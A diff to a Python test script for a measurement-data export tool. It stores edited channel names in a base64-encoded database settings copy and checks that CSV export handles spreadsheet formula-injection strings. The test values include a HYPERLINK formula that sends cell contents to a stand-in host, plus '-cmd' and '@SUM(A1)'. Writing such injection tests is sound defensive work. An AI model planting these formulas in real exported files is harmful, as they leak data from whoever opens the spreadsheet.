@@ -3,7 +3,9 @@
 subcommand checked with tools that are not the library (csv, sqlite3, html.parser, json).
 Runs on SQLite always and on PostgreSQL when MDA_TEST_PG_URL/USER/PASSWORD are set.
 Usage: check_mda.py CMAKE BUILD_DIR DEMO WORK_DIR TOOL_NAME"""
+import base64
 import csv
+import hashlib
 import html.parser
 import io
 import json
@@ -512,19 +514,23 @@ texts = ["=1+1", "-2+3", "@SUM(A1)", "\t=2", "\r=3", "+", "-", "plain", "-12.5",
 for n, text in enumerate(texts):
     # Item 0 "Status" is a text item: its value is written whole.
     con.execute("insert into measurement (session_id, scan_id, channel_id, measurement_item, "
-                "state, value) values (?, 1, ?, 0, 1, ?)", (session, n % CHANNELS, text))
-con.commit()
-con.close()
-formula_doc = json.load(open(table_file, encoding="utf-8"))
+                "state, value) values (?, 1, ?, 0, 2, ?)", (session, n % CHANNELS, text))
+# Channel names as the session registered them: its copy of the channel table, edited.
 formula_names = ['=HYPERLINK("http://x.invalid/?"&A1,"Click")', "@SUM(A1)", "-cmd", "+1-1"]
+(copy_id, encoded) = con.execute("select id, file from exported_channel_settings order by id "
+                                 "limit 1").fetchone()
+formula_doc = json.loads(base64.b64decode(encoded))
 for row, name in zip(formula_doc["ChannelTableData"][1:], formula_names):
     for item in row["ChannelItemData"]:
         if item["Id"] == "Channel Name":
             item["Value"] = name
-formula_channels = os.path.join(work, "formulas.channel")
-json.dump(formula_doc, open(formula_channels, "w", encoding="utf-8"), indent=4)
+edited = json.dumps(formula_doc, indent=4).encode()
+con.execute("update exported_channel_settings set file = ?, hash = ? where id = ?",
+            (base64.b64encode(edited).decode(), hashlib.md5(edited).hexdigest(), copy_id))
+con.commit()
+con.close()
 out_guard = os.path.join(work, "formulas.csv")
-r = run(["csv", str(session), "--database", guard_db, "--channels", formula_channels, "-o", out_guard])
+r = run(["csv", str(session), "--database", guard_db, "-o", out_guard])
 guarded = read_csv(out_guard)
 check(r.returncode == 0 and len(guarded) == stored + len(texts), "csv of the formula database")
 names = {x["channel_name"] for x in guarded}
@@ -585,7 +591,8 @@ check(compared > stored // 3 and mismatched == 0,
       "compare type and limits agree with the limit file (%d rows, %d differ)"
       % (compared, mismatched))
 power = [x for x in analyst if x["item_name"] == "Power"]
-check(power and all(float(x["limit_offset"]) == offsets[x["channel_name"]] for x in power) and
+check(power and all(x["limit_offset"] and float(x["limit_offset"]) == offsets[x["channel_name"]]
+                   for x in power) and
       {x["limit_low"] for x in power if offsets[x["channel_name"]] == -6} == {"-21"} and
       {x["limit_high"] for x in power if offsets[x["channel_name"]] == 3} == {"50"},
       "Power carries its channel's limit offset, its limits shifted by it")
